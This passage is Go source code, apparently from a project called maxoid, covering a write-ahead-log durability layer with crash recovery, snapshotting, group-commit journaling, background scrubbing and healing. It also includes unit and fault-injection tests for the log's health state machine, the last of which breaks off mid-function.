	// DBs maps a stable name (the WAL stream suffix) to each journaled
	// database. Names must not change across restarts.
	DBs map[string]*sqldb.DB
	// NoCoalesce disables group commit: every Sync fsyncs (benchmark
	// baseline, not for production use).
	NoCoalesce bool
	// Metrics, when non-nil, receives wal.append / wal.fsync /
	// wal.recover histograms, the wal.health gauge, and the
	// wal.retries / wal.degraded.rejects counters.
	Metrics *metrics.Registry
	// MaxRetries bounds transient-fault retries on appends and fsyncs
	// before the store drops to read-only. 0 = default (3).
	MaxRetries int
	// RetryBackoff is the initial backoff between transient-fault
	// retries (doubles per attempt). 0 = default (1ms).
	RetryBackoff time.Duration
	// RetrySleep replaces time.Sleep for retry backoff; the chaos
	// engine substitutes a no-op to stay fast.
	RetrySleep func(time.Duration)
}

// Store is the durability layer: it owns the WAL and snapshot files,
// implements the vfs and sqldb journal interfaces, and recovers state
// on Open.
type Store struct {
	cfg       Config
	log       *Log
	tr        *health.Tracker
	snapMu    sync.Mutex // one snapshot/heal/scrub at a time; guards walBase
	walBase   uint64     // LSN the current WAL file starts after (last swap cut)
	recovered uint64     // LSN recovered state corresponds to at Open
}

// Open recovers state from the snapshot and WAL in cfg.Storage into
// cfg.FS / cfg.DBs — which must be freshly constructed and empty —
// truncates any torn WAL tail, and attaches journals so subsequent
// mutations are logged. Fault injection is suspended for the whole
// recovery: replay re-executes statements whose faults already
// happened (or didn't) in the previous life.
func Open(cfg Config) (*Store, error) {
	start := time.Now()
	fault.Suspend()
	defer fault.Resume()

	// A crash mid-snapshot leaves snapshot.tmp behind; it was never
	// renamed, so it is garbage.
	if err := cfg.Storage.Remove(snapTmpFile); err != nil {
		return nil, err
	}

	cut, err := recoverSnapshot(&cfg)
	if err != nil {
		return nil, err
	}
	last, validLen, err := recoverWAL(&cfg, cut)
	if err != nil {
		return nil, err
	}

	// Truncate the torn tail, open the log for appending, and pin the
	// recovered prefix: records replayed from unsynced-but-surviving
	// bytes are now part of the recovered state, so a second crash must
	// not be able to lose them (recovered LSNs never regress).
	f, err := cfg.Storage.Append(walFile, int64(validLen))
	if err != nil {
		return nil, err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return nil, err
	}
	s := &Store{cfg: cfg, recovered: last, walBase: cut}
	topts := health.Options{
		MaxRetries:   cfg.MaxRetries,
		RetryBackoff: cfg.RetryBackoff,
		Sleep:        cfg.RetrySleep,
	}
	if cfg.Metrics != nil {
		gauge := cfg.Metrics.Gauge("wal.health")
		gauge.Set(int64(health.Healthy))
		topts.OnTransition = func(_, to health.State) { gauge.Set(int64(to)) }
		retries := cfg.Metrics.Counter("wal.retries")
		topts.OnRetry = func(int, error) { retries.Inc() }
	}
	s.tr = health.NewTracker(topts)
	s.log = newLog(f, last, cfg.NoCoalesce, cfg.Metrics, s.tr)

	// A transaction the WAL left open never committed: roll it back —
	// and journal the rollback, so the next recovery's replay closes
	// the transaction at the same point instead of folding whatever
	// comes after the orphaned BEGIN into it. Without this record the
	// WAL is not a replayable history.
	names := make([]string, 0, len(cfg.DBs))
	for name := range cfg.DBs {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		if !cfg.DBs[name].AbortOpenTxn() {
			continue
		}
		payload, err := encodeDBUnit(sqldb.JournalUnit{SQL: "ROLLBACK", N: 1, Sync: true})
		if err != nil {
			return nil, err
		}
		lsn, err := s.log.Append(dbPrefix+name, payload)
		if err != nil {
			return nil, err
		}
		if err := s.log.Sync(lsn); err != nil {
			return nil, err
		}
	}

	// Attach journals last: nothing that happened during replay is
	// re-logged.
	if cfg.FS != nil {
		cfg.FS.SetJournal(&fsJournal{s: s})
	}
	for name, db := range cfg.DBs {
		db.SetJournal(&dbJournal{s: s, stream: dbPrefix + name})
	}
	if cfg.Metrics != nil {
		cfg.Metrics.Histogram("wal.recover").Observe(time.Since(start))
	}
	return s, nil
}

// recoverSnapshot applies the snapshot file if present and returns its
// cut LSN. Unlike the WAL, a snapshot is published by atomic rename
// and must be perfect: any decode failure is corruption, not a torn
// tail.
func recoverSnapshot(cfg *Config) (uint64, error) {
	data, err := cfg.Storage.ReadFile(snapFile)
	if err != nil {
		if errors.Is(err, fs.ErrNotExist) {
			return 0, nil
		}
		return 0, err
	}
	var cut uint64
	first := true
	n, serr := scanFrames(data, func(rec Record) error {
		if first {
			first = false
			if rec.Stream != snapStream || len(rec.Payload) != 8 {
				return fmt.Errorf("wal: snapshot missing header frame")
			}
			cut = binary.LittleEndian.Uint64(rec.Payload)
			return nil
		}
		return applyRecord(cfg, rec)
	})
	if serr != nil {
		return 0, serr
	}
	if first || n != len(data) {
		return 0, fmt.Errorf("%w: snapshot truncated at byte %d of %d", ErrCorrupt, n, len(data))
	}
	return cut, nil
}

// recoverWAL replays every record past cut from the valid WAL prefix,
// returning the highest LSN seen (or cut) and the prefix length in
// bytes — everything beyond it is a torn tail to truncate.
func recoverWAL(cfg *Config, cut uint64) (last uint64, validLen int, err error) {
	last = cut
	data, err := cfg.Storage.ReadFile(walFile)
	if err != nil {
		if errors.Is(err, fs.ErrNotExist) {
			return last, 0, nil
		}
		return 0, 0, err
	}
	validLen, err = scanFrames(data, func(rec Record) error {
		if rec.LSN > last {
			last = rec.LSN
		}
		if rec.LSN <= cut {
			// Already folded into the snapshot (replay idempotence is
			// LSN filtering, not operation semantics).
			return nil
		}
		return applyRecord(cfg, rec)
	})
	if err != nil {
		return 0, 0, err
	}
	return last, validLen, nil
}

// applyRecord routes one logical record to its target state.
func applyRecord(cfg *Config, rec Record) error {
	if rec.Stream == fsStream {
		if cfg.FS == nil {
			return fmt.Errorf("wal: fs record but no filesystem configured")
		}
		return applyFS(cfg.FS, rec.Payload)
	}
	if name, ok := strings.CutPrefix(rec.Stream, dbPrefix); ok {
		db := cfg.DBs[name]
		if db == nil {
			return fmt.Errorf("wal: record for unknown database %q", name)
		}
		return applyDB(db, rec.Payload)
	}
	return fmt.Errorf("wal: record on unknown stream %q", rec.Stream)
}

// RecoveredLSN returns the LSN the recovered state corresponded to
// when Open returned.
func (s *Store) RecoveredLSN() uint64 { return s.recovered }

// LastLSN returns the last appended LSN.
func (s *Store) LastLSN() uint64 { return s.log.LastAppended() }

// LastSynced returns the highest LSN known durable.
func (s *Store) LastSynced() uint64 { return s.log.LastSynced() }

// Broken returns the log's poison error, nil while healthy.
func (s *Store) Broken() error { return s.log.Broken() }

// Health returns the store's position in the health state machine.
func (s *Store) Health() health.State { return s.tr.State() }

// Writable reports whether durable writes are currently accepted.
func (s *Store) Writable() bool { return s.tr.Writable() }

// WriteGate is the pre-mutation gate for durable writes: nil while the
// store accepts them, ErrBroken when poisoned, health.ErrReadOnly when
// degraded. The vfs and sqldb layers consult it before mutating any
// in-memory state, so an ErrReadOnly rejection is always clean — no
// memory changed, the caller can retry after the store heals.
func (s *Store) WriteGate() error {
	if err := s.log.Broken(); err != nil {
		return err
	}
	if !s.tr.Writable() {
		s.log.noteReject()
		return health.ErrReadOnly
	}
	return nil
}

// Close detaches the journals and closes the log (syncing it first
// when healthy).
func (s *Store) Close() error {
	if s.cfg.FS != nil {
		s.cfg.FS.SetJournal(nil)
	}
	for _, db := range s.cfg.DBs {
		db.SetJournal(nil)
	}
	return s.log.close()
}

// Snapshot writes a compacted snapshot of the full state and, when no
// append raced it, resets the WAL. Consistency is optimistic: the dump
// runs without blocking writers, and if the tail LSN moved while it
// ran, the dump was not a consistent cut and is retried (a seqlock).
// Journaled mutations are exactly the ones that move the tail, so an
// unchanged LSN proves an unchanged state.
func (s *Store) Snapshot() error {
	s.snapMu.Lock()
	defer s.snapMu.Unlock()
	// A poisoned log returns ErrBroken immediately — never attempt a
	// snapshot publish over a corrupt tail. A read-only store rejects
	// too: publishing is a durable write; Heal is the way out.
	if err := s.WriteGate(); err != nil {
		return err
	}
	for attempt := 0; attempt < snapshotRetries; attempt++ {
		if err := s.log.Broken(); err != nil {
			return err
		}
		cut := s.log.LastAppended()
		buf, err := s.dump(cut)
		if err != nil {
			return err
		}
		if s.log.LastAppended() != cut {
			continue // a writer raced the dump; the cut is inconsistent
		}
		if err := s.publish(buf); err != nil {
			return err
		}
		// Opportunistic WAL reset: only safe if still nothing appended
		// past the cut. Skipping it is correct — recovery filters WAL
		// records at or below the snapshot's cut LSN.
		swapped, err := s.log.swapFile(cut, func() (File, error) {
			return s.cfg.Storage.Create(walFile)
		})
		if swapped {
			s.walBase = cut
		}
		return err
	}
	return ErrBusy
}

// dump serializes the full state as a framed snapshot image cut at
// LSN cut.
func (s *Store) dump(cut uint64) ([]byte, error) {
	var hdr [8]byte
	binary.LittleEndian.PutUint64(hdr[:], cut)
	buf := appendFrame(nil, Record{LSN: cut, Stream: snapStream, Payload: hdr[:]})

	if s.cfg.FS != nil {
		var err error
		buf, err = dumpFS(buf, s.cfg.FS, cut)
		if err != nil {
			return nil, err
		}
	}

	names := make([]string, 0, len(s.cfg.DBs))
	for name := range s.cfg.DBs {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		db := s.cfg.DBs[name]
		if db.InTxn() {
			return nil, ErrBusy
		}
		stream := dbPrefix + name
		err := db.DumpUnits(func(u sqldb.JournalUnit) error {
			payload, err := encodeDBUnit(u)
			if err != nil {
				return err
			}
			buf = appendFrame(buf, Record{LSN: cut, Stream: stream, Payload: payload})
			return nil
		})
		if err != nil {
			if strings.Contains(err.Error(), "transaction open") {
				return nil, ErrBusy
			}
			return nil, err
		}
		// ID allocators last: row replay rebuilds them except for
		// high-water marks left by deleted rows.
		buf = appendFrame(buf, Record{LSN: cut, Stream: stream, Payload: encodeDBCounters(db.CounterState())})
	}
	return buf, nil
}

// dumpFS walks the tree in lexical order (parents before children)
// emitting mkdir/create/write records that rebuild it.
func dumpFS(buf []byte, fsys *vfs.FS, cut uint64) ([]byte, error) {
	err := vfs.Walk(fsys, vfs.Root, "/", func(name string, info vfs.FileInfo) error {
		if name == "/" {
			return nil
		}
		if info.IsDir() {
			buf = appendFrame(buf, Record{LSN: cut, Stream: fsStream,
				Payload: encodeFSMkdir(name, info.Mode.Perm(), info.UID)})
			return nil
		}
		buf = appendFrame(buf, Record{LSN: cut, Stream: fsStream,
			Payload: encodeFSCreate(name, info.Mode.Perm(), info.UID)})
		if info.Size > 0 {
			data, err := vfs.ReadFile(fsys, vfs.Root, name)
			if err != nil {
				return err
			}
			buf = appendFrame(buf, Record{LSN: cut, Stream: fsStream,
				Payload: encodeFSWriteAt(name, 0, data)})
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return buf, nil
}

// publish writes the snapshot image to snapshot.tmp, syncs it, and
// atomically renames it over the previous snapshot. A failure (the
// wal.snapshot fault point fires before the bytes are written) leaves
// the old snapshot intact; the orphan tmp file is removed at next
// Open.
func (s *Store) publish(buf []byte) error {
	f, err := s.cfg.Storage.Create(snapTmpFile)
	if err != nil {
		return err
	}
	if err := fault.Hit(faultSnapshot); err != nil {
		f.Close()
		s.cfg.Storage.Remove(snapTmpFile)
		return err
	}
	if _, err := f.Write(buf); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	return s.cfg.Storage.Rename(snapTmpFile, snapFile)
}

// --- journal adapters ---

// fsJournal implements vfs.Journal: one WAL record per mutation,
// synced before the vfs operation returns. File-system callers get no
// transaction boundary, so every acknowledged operation is durable.
type fsJournal struct{ s *Store }

// WriteGate implements vfs.WriteGate: vfs consults it before mutating
// in-memory state, so degraded rejections never leave memory ahead of
// the log.
func (j *fsJournal) WriteGate() error { return j.s.WriteGate() }

func (j *fsJournal) commit(payload []byte) error {
	lsn, err := j.s.log.Append(fsStream, payload)
	if err != nil {
		return err
	}
	return j.s.log.Sync(lsn)
}

func (j *fsJournal) Create(path string, mode fs.FileMode, uid int) error {
	return j.commit(encodeFSCreate(path, mode, uid))
}

func (j *fsJournal) WriteAt(path string, off int64, data []byte) error {
	return j.commit(encodeFSWriteAt(path, off, data))
}

func (j *fsJournal) Truncate(path string, size int64) error {
	return j.commit(encodeFSTruncate(path, size))
}

func (j *fsJournal) Mkdir(path string, mode fs.FileMode, uid int) error {
	return j.commit(encodeFSMkdir(path, mode, uid))
}

func (j *fsJournal) Remove(path string) error {
	return j.commit(encodeFSPath(fsRemove, path))
}

func (j *fsJournal) RemoveAll(path string) error {
	return j.commit(encodeFSPath(fsRemoveAll, path))
}

func (j *fsJournal) Rename(oldpath, newpath string) error {
	return j.commit(encodeFSRename(oldpath, newpath))
}

func (j *fsJournal) Chmod(path string, mode fs.FileMode) error {
	return j.commit(encodeFSChmod(path, mode))
}

func (j *fsJournal) Chown(path string, uid int) error {
	return j.commit(encodeFSChown(path, uid))
}

// dbJournal implements sqldb.DeferredJournal for one database: a unit
// becomes one WAL record appended under the batch locks, and the fsync
// wait — when the unit demands durability — is handed back to run
// after the locks release, so concurrent committers coalesce into one
// fsync (group commit).
type dbJournal struct {
	s      *Store
	stream string
}

// WriteGate implements sqldb.WriteGate: sqldb consults it before
// executing a mutating batch, so degraded rejections happen before any
// in-memory table changes.
func (j *dbJournal) WriteGate() error { return j.s.WriteGate() }

func (j *dbJournal) CommitAppend(u sqldb.JournalUnit) (func() error, error) {
	// Transaction aborts are permitted while read-only — a degraded
	// store must still let applications back out of open transactions.
	// Skipping the WAL record is sound: if the open BEGIN reached the
	// log without its ROLLBACK, recovery replays the orphaned prefix
	// and Open's AbortOpenTxn closes it at the same point, journaling
	// the rollback then. The log stays a replayable history.
	if u.SQL == "ROLLBACK" && !j.s.Writable() {
		return nil, nil
	}
	payload, err := encodeDBUnit(u)
	if err != nil {
		return nil, err
	}
	lsn, err := j.s.log.Append(j.stream, payload)
	if err != nil {
		return nil, err
	}
	if !u.Sync {
		return nil, nil
	}
	return func() error { return j.s.log.Sync(lsn) }, nil
}

func (j *dbJournal) Commit(u sqldb.JournalUnit) error {
	wait, err := j.CommitAppend(u)
	if err != nil || wait == nil {
		return err
	}
	return wait()
}
