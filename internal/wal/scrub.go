package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"sort"
	"sync"
	"time"

	"maxoid/internal/fault"
	"maxoid/internal/health"
)

// faultScrub injects scrub outcomes: OpTransient models a read fault
// during verification (degrades, retried next cycle), anything else
// models detected corruption (poisons).
var faultScrub = fault.Declare("wal.scrub", "background scrub: transient read fault or detected corruption")

// poison marks the log permanently corrupt from outside the
// append/sync paths (the scrubber). First error wins.
func (l *Log) poison(err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.broken == nil {
		l.poisonLocked(err)
	}
}

// verifySnapshot structurally validates a snapshot image without
// applying it: every frame's length and CRC must check out, the first
// frame must be the "snap" header carrying the cut LSN, and the frames
// must cover the whole file (a snapshot is published by atomic rename,
// so unlike the WAL it has no legitimate torn tail). It never panics
// on arbitrary input (fuzzed by FuzzSnapshotDecode) and returns the
// header's cut LSN on success.
func verifySnapshot(data []byte) (cut uint64, err error) {
	first := true
	n, serr := scanFrames(data, func(rec Record) error {
		if first {
			first = false
			if rec.Stream != snapStream || len(rec.Payload) != 8 {
				return fmt.Errorf("wal: snapshot missing header frame")
			}
			cut = binary.LittleEndian.Uint64(rec.Payload)
		}
		return nil
	})
	if serr != nil {
		return 0, serr
	}
	if first || n != len(data) {
		return 0, fmt.Errorf("%w: snapshot truncated at byte %d of %d", ErrCorrupt, n, len(data))
	}
	return cut, nil
}

// ScrubOnce re-verifies on-disk integrity while serving: every
// snapshot frame CRC, and that the WAL still holds every record the
// store acknowledged as durable. Corruption poisons the store
// (fail-stop — the disk lied about an acknowledged write); a transient
// read fault only degrades it, to be retried next cycle. Runs under
// snapMu so it never races a snapshot/heal swapping the WAL file out
// from beneath the read.
func (s *Store) ScrubOnce() error {
	s.snapMu.Lock()
	defer s.snapMu.Unlock()
	if err := s.log.Broken(); err != nil {
		return err
	}

	if err := fault.Hit(faultScrub); err != nil {
		if health.Classify(err) == health.ClassTransient {
			s.tr.Degrade()
			return err
		}
		s.log.poison(fmt.Errorf("wal: scrub detected corruption: %v", err))
		return s.log.Broken()
	}

	// Snapshot image: immutable after its atomic rename, so a strict
	// whole-file check cannot race writers.
	snap, err := s.cfg.Storage.ReadFile(snapFile)
	switch {
	case errors.Is(err, fs.ErrNotExist):
		// No snapshot yet.
	case err != nil:
		if health.Classify(err) == health.ClassTransient {
			s.tr.Degrade()
			return err
		}
		s.log.poison(fmt.Errorf("wal: scrub cannot read snapshot: %v", err))
		return s.log.Broken()
	default:
		if _, verr := verifySnapshot(snap); verr != nil {
			s.log.poison(fmt.Errorf("wal: scrub: %v", verr))
			return s.log.Broken()
		}
	}

	// WAL: appends may race the read, so the check is coverage, not
	// strictness — the valid frame prefix must reach at least the LSN
	// that was already durable before the read started. A torn or
	// garbage tail is legitimate (in-flight append, crash leftovers);
	// a synced record that scanning cannot reach is corruption.
	syncedBefore := s.log.LastSynced()
	wal, err := s.cfg.Storage.ReadFile(walFile)
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		if health.Classify(err) == health.ClassTransient {
			s.tr.Degrade()
			return err
		}
		s.log.poison(fmt.Errorf("wal: scrub cannot read log: %v", err))
		return s.log.Broken()
	}
	maxLSN := s.walBase // a swapped (empty) WAL file starts after the cut
	scanFrames(wal, func(rec Record) error {
		if rec.LSN > maxLSN {
			maxLSN = rec.LSN
		}
		return nil
	})
	if maxLSN < syncedBefore {
		s.log.poison(fmt.Errorf("%w: scrub: durable record lost: log covers LSN %d, %d was acknowledged", ErrCorrupt, maxLSN, syncedBefore))
		return s.log.Broken()
	}
	return nil
}

// Heal returns a degraded store to service. Degrading heals in place
// (the fault burst cleared). ReadOnly requires reconciliation: while
// read-only, operations that failed after mutating memory left the
// in-memory state ahead of the log (none of them were acknowledged, so
// no durability promise is at stake — but memory and log disagree).
// Heal folds the current memory image into a fresh snapshot, publishes
// it atomically, and swaps in an empty WAL, making memory and disk
// agree again before accepting writes. Open transactions are aborted
// first — their half-applied state cannot be dumped. A poisoned store
// cannot heal; it returns ErrBroken.
//
// Injection is suspended throughout: heal is a recovery path, and
// re-injecting faults into recovery would make progress impossible to
// guarantee (the maintenance loop retries on real failures anyway).
func (s *Store) Heal() error {
	s.snapMu.Lock()
	defer s.snapMu.Unlock()
	if err := s.log.Broken(); err != nil {
		return err
	}
	switch s.tr.State() {
	case health.Healthy:
		return nil
	case health.Degrading:
		s.tr.Heal()
		return nil
	}

	fault.Suspend()
	defer fault.Resume()

	names := make([]string, 0, len(s.cfg.DBs))
	for name := range s.cfg.DBs {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		// The rollback mutates memory only: the sqldb write gate admits
		// pure-ROLLBACK batches read-only, and dbJournal skips logging
		// them (recovery reproduces the abort from the orphaned BEGIN).
		s.cfg.DBs[name].AbortOpenTxn()
	}

	// Appends are gated while read-only, so the tail cannot move under
	// the dump; the recheck guards the invariant anyway.
	cut := s.log.LastAppended()
	buf, err := s.dump(cut)
	if err != nil {
		return err
	}
	if s.log.LastAppended() != cut {
		return ErrBusy
	}
	if err := s.publish(buf); err != nil {
		return err
	}
	swapped, err := s.log.swapFile(cut, func() (File, error) {
		return s.cfg.Storage.Create(walFile)
	})
	if err != nil {
		return err
	}
	if !swapped {
		return ErrBusy
	}
	s.walBase = cut
	if !s.tr.Heal() {
		return s.log.Broken()
	}
	return nil
}

// StartMaintenance runs the background maintenance goroutine: on every
// tick it scrubs a serving store, or attempts to heal a read-only one
// (automatic recovery once the underlying fault clears). The returned
// stop function blocks until the goroutine exits; call it before
// Close. Errors are not returned — they land in the health state
// machine and the wal.health gauge, which is what monitoring watches.
func (s *Store) StartMaintenance(interval time.Duration) (stop func()) {
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			select {
			case <-done:
				return
			case <-t.C:
			}
			switch s.Health() {
			case health.ReadOnly:
				_ = s.Heal()
			case health.Healthy, health.Degrading:
				_ = s.ScrubOnce()
			}
		}
	}()
	return func() {
		close(done)
		wg.Wait()
	}
}
