package wal

import (
	"bytes"
	"errors"
	"fmt"
	"sync"
	"testing"

	"maxoid/internal/health"
)

func TestFrameRoundTrip(t *testing.T) {
	recs := []Record{
		{LSN: 1, Stream: "fs", Payload: []byte("hello")},
		{LSN: 2, Stream: "db:main", Payload: nil},
		{LSN: 3, Stream: "", Payload: bytes.Repeat([]byte{0xAB}, 1000)},
	}
	var buf []byte
	for _, r := range recs {
		buf = appendFrame(buf, r)
	}
	var got []Record
	n, err := scanFrames(buf, func(r Record) error {
		got = append(got, Record{LSN: r.LSN, Stream: r.Stream, Payload: append([]byte(nil), r.Payload...)})
		return nil
	})
	if err != nil {
		t.Fatalf("scanFrames: %v", err)
	}
	if n != len(buf) {
		t.Fatalf("valid prefix = %d, want %d", n, len(buf))
	}
	if len(got) != len(recs) {
		t.Fatalf("decoded %d records, want %d", len(got), len(recs))
	}
	for i := range recs {
		if got[i].LSN != recs[i].LSN || got[i].Stream != recs[i].Stream || !bytes.Equal(got[i].Payload, recs[i].Payload) {
			t.Errorf("record %d = %+v, want %+v", i, got[i], recs[i])
		}
	}
}

func TestDecodeFrameTorn(t *testing.T) {
	frame := appendFrame(nil, Record{LSN: 7, Stream: "fs", Payload: []byte("payload bytes")})
	// Every proper prefix of a frame is torn, never an error-free decode.
	for cut := 0; cut < len(frame); cut++ {
		if _, _, err := DecodeFrame(frame[:cut]); !errors.Is(err, ErrTornFrame) {
			t.Fatalf("prefix len %d: err = %v, want ErrTornFrame", cut, err)
		}
	}
	// A flipped payload bit fails the checksum.
	corrupt := append([]byte(nil), frame...)
	corrupt[len(corrupt)-1] ^= 1
	if _, _, err := DecodeFrame(corrupt); !errors.Is(err, ErrTornFrame) {
		t.Fatalf("corrupt payload: err = %v, want ErrTornFrame", err)
	}
	// scanFrames stops at the torn frame, keeping the earlier one.
	two := append(append([]byte(nil), frame...), frame[:len(frame)-3]...)
	count := 0
	n, err := scanFrames(two, func(Record) error { count++; return nil })
	if err != nil || count != 1 || n != len(frame) {
		t.Fatalf("scan torn tail: n=%d count=%d err=%v, want n=%d count=1", n, count, err, len(frame))
	}
}

// countingFile counts Sync calls and can be told to start failing.
type countingFile struct {
	File
	syncs    int
	failSync error
}

func (f *countingFile) Sync() error {
	f.syncs++
	if f.failSync != nil {
		return f.failSync
	}
	return f.File.Sync()
}

func TestLogGroupCommit(t *testing.T) {
	st := NewMemStorage()
	inner, _ := st.Create(walFile)
	f := &countingFile{File: inner}
	l := newLog(f, 0, false, nil, health.NewTracker(health.Options{}))

	var last uint64
	for i := 0; i < 10; i++ {
		lsn, err := l.Append("fs", []byte{byte(i)})
		if err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
		last = lsn
	}
	if err := l.Sync(last); err != nil {
		t.Fatalf("sync: %v", err)
	}
	if f.syncs != 1 {
		t.Fatalf("fsyncs = %d, want 1 (one fsync covers the whole tail)", f.syncs)
	}
	// Everything at or below the synced tail is already durable: free.
	for target := uint64(1); target <= last; target++ {
		if err := l.Sync(target); err != nil {
			t.Fatalf("re-sync %d: %v", target, err)
		}
	}
	if f.syncs != 1 {
		t.Fatalf("fsyncs after covered re-syncs = %d, want 1", f.syncs)
	}
	if l.LastSynced() != last || l.LastAppended() != last {
		t.Fatalf("synced=%d appended=%d, want both %d", l.LastSynced(), l.LastAppended(), last)
	}
}

func TestLogGroupCommitConcurrent(t *testing.T) {
	st := NewMemStorage()
	inner, _ := st.Create(walFile)
	f := &countingFile{File: inner}
	l := newLog(f, 0, false, nil, health.NewTracker(health.Options{}))

	const writers, perWriter = 8, 25
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				lsn, err := l.Append("fs", []byte(fmt.Sprintf("%d/%d", w, i)))
				if err != nil {
					t.Errorf("append: %v", err)
					return
				}
				if err := l.Sync(lsn); err != nil {
					t.Errorf("sync: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	want := uint64(writers * perWriter)
	if l.LastSynced() != want {
		t.Fatalf("synced = %d, want %d", l.LastSynced(), want)
	}
	data, _ := st.ReadFile(walFile)
	count := 0
	n, err := scanFrames(data, func(Record) error { count++; return nil })
	if err != nil || n != len(data) || count != int(want) {
		t.Fatalf("log decodes to %d frames over %d/%d bytes (err=%v), want %d frames", count, n, len(data), err, want)
	}
}

func TestLogNoCoalesce(t *testing.T) {
	st := NewMemStorage()
	inner, _ := st.Create(walFile)
	f := &countingFile{File: inner}
	l := newLog(f, 0, true, nil, health.NewTracker(health.Options{}))
	for i := 0; i < 5; i++ {
		lsn, err := l.Append("fs", []byte{byte(i)})
		if err != nil {
			t.Fatalf("append: %v", err)
		}
		if err := l.Sync(lsn); err != nil {
			t.Fatalf("sync: %v", err)
		}
	}
	if f.syncs != 5 {
		t.Fatalf("fsyncs = %d, want 5 (NoCoalesce syncs every op)", f.syncs)
	}
}

func TestLogPoison(t *testing.T) {
	st := NewMemStorage()
	inner, _ := st.Create(walFile)
	f := &countingFile{File: inner}
	l := newLog(f, 0, false, nil, health.NewTracker(health.Options{}))

	lsn, err := l.Append("fs", []byte("x"))
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	f.failSync = errors.New("disk on fire")
	if err := l.Sync(lsn); err == nil {
		t.Fatal("sync with failing file succeeded")
	}
	// The log is poisoned: every later operation fails with ErrBroken,
	// even after the disk "recovers".
	f.failSync = nil
	if _, err := l.Append("fs", []byte("y")); !errors.Is(err, ErrBroken) {
		t.Fatalf("append after poison: %v, want ErrBroken", err)
	}
	if err := l.Sync(lsn); !errors.Is(err, ErrBroken) {
		t.Fatalf("sync after poison: %v, want ErrBroken", err)
	}
	if l.Broken() == nil {
		t.Fatal("Broken() = nil on a poisoned log")
	}
}
