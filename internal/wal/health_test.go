package wal_test

import (
	"errors"
	"testing"
	"time"

	"maxoid/internal/fault"
	"maxoid/internal/health"
	"maxoid/internal/metrics"
	"maxoid/internal/testutil"
	"maxoid/internal/vfs"
	"maxoid/internal/wal"
)

// openHealthEnv opens a MemStorage-backed env with a tight retry
// budget, no-op retry sleep, and a metrics registry — the standard
// fixture for degradation tests.
func openHealthEnv(t *testing.T) (*testutil.DurableEnv, *wal.MemStorage, *metrics.Registry) {
	t.Helper()
	st := wal.NewMemStorage()
	reg := metrics.NewRegistry()
	env, err := testutil.OpenDurableWith(st, "main", func(cfg *wal.Config) {
		cfg.Metrics = reg
		cfg.MaxRetries = 2
		cfg.RetryBackoff = time.Nanosecond
		cfg.RetrySleep = func(time.Duration) {}
	})
	if err != nil {
		t.Fatalf("open: %v", err)
	}
	return env, st, reg
}

func TestTransientAppendRetriesAndRecovers(t *testing.T) {
	env, _, reg := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 2)

	// One transient append fault: absorbed by retry, the write succeeds
	// and the store returns to Healthy via ReportSuccess.
	fault.Enable(1, fault.Spec{Point: "wal.append.transient", Prob: 1, Times: 1, Op: fault.OpTransient})
	defer fault.Disable()
	mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v3")
	if got := env.Store.Health(); got != health.Healthy {
		t.Fatalf("health after absorbed fault = %v, want healthy", got)
	}
	if reg.Counter("wal.retries").Total() == 0 {
		t.Fatal("wal.retries counter did not move")
	}
	reopen(t, env)
	if rows := kvRows(t, env.DB); len(rows) != 3 {
		t.Fatalf("recovered %d rows, want 3", len(rows))
	}
}

func TestTransientExhaustionDropsToReadOnly(t *testing.T) {
	env, _, reg := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 2)

	fault.Enable(1, fault.Spec{Point: "wal.append.transient", Prob: 1, Op: fault.OpTransient})
	_, err := env.DB.Exec("INSERT INTO kv (v) VALUES (?)", "v3")
	if !errors.Is(err, fault.ErrTransient) {
		t.Fatalf("exhausted insert err = %v, want ErrTransient", err)
	}
	fault.Disable()

	if got := env.Store.Health(); got != health.ReadOnly {
		t.Fatalf("health = %v, want read-only", got)
	}
	if env.Store.Writable() {
		t.Fatal("read-only store reports Writable")
	}
	if g, ok := reg.Gauges()["wal.health"]; !ok || g != int64(health.ReadOnly) {
		t.Fatalf("wal.health gauge = %d, want %d", g, int64(health.ReadOnly))
	}

	// Subsequent DB writes are rejected at the gate: typed ErrReadOnly,
	// and provably pre-mutation — the table is unchanged.
	if _, err := env.DB.Exec("INSERT INTO kv (v) VALUES (?)", "v4"); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("gated insert err = %v, want ErrReadOnly", err)
	}
	// The exhausted insert mutated memory (residue, never acked); the
	// gated one must not have.
	if rows := kvRows(t, env.DB); len(rows) != 3 {
		t.Fatalf("in-memory rows = %d, want 3 (residue insert only)", len(rows))
	}

	// FS writes are rejected with the same typed error, also pre-mutation.
	if err := vfs.WriteFile(env.FS, vfs.Root, "/f", []byte("x"), 0o666); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("gated fs write err = %v, want ErrReadOnly", err)
	}
	if _, err := vfs.ReadFile(env.FS, vfs.Root, "/f"); err == nil {
		t.Fatal("gated create left the file behind")
	}
	if reg.Counter("wal.degraded.rejects").Total() == 0 {
		t.Fatal("wal.degraded.rejects counter did not move")
	}

	// Reads keep serving throughout.
	if rows := kvRows(t, env.DB); len(rows) != 3 {
		t.Fatalf("reads broken while read-only: %d rows", len(rows))
	}

	// Snapshot while read-only is a durable write: typed rejection.
	if err := env.Store.Snapshot(); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("snapshot while read-only = %v, want ErrReadOnly", err)
	}

	// A crash at this point must not surface the residue row: it was
	// never acknowledged, and the durable prefix ends before it.
